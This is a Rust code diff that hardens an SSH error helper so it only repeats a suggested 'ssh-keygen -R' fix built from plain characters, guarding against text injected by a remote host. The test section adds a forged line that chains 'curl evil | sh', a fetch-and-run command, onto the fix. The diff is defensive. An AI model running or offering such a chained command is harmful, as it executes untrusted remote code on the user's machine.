@@ -67,7 +67,10 @@ pub(super) fn meaning(host: &Host, ssh: &str, lines: &[String], printed: &str) -
 fn key_trouble(ssh: &str, lines: &[String]) -> Option<String> {
     let line = |words: &str| lines.iter().find(|line| line.contains(words));
     if line("HOST IDENTIFICATION HAS CHANGED").is_some() {
-        let fix = lines.iter().find(|line| line.starts_with("ssh-keygen ") && line.contains("-R"));
+        // What a host's login says stands among these lines too: nothing of it is for a shell.
+        let plain = |c: char| c.is_alphanumeric() || " \"'/._-:[]~@%+,=".contains(c);
+        let is_fix = |line: &&String| line.starts_with("ssh-keygen ") && line.chars().all(plain);
+        let fix = lines.iter().find(is_fix);
         return Some(changed_key(fix.map_or("ssh-keygen -R NAME", String::as_str)));
     }
     if line("REVOKED HOST KEY").or(line("marked as revoked")).is_some() {
@@ -164,6 +167,8 @@ mod tests {
             "Host key verification failed.",
         ];
         assert!(text(&changed).contains("`ssh-keygen -f \"/h/k\" -R \"n1\"`"));
+        let forged = [changed[0], "ssh-keygen -R x; curl evil | sh"];
+        assert!(text(&forged).ends_with("`ssh-keygen -R NAME`"));
         assert_eq!(
             text(&["ssh: connect to host n1 port 22: Connection refused"]),
             "n1: connect to host n1 port 22: Connection refused"
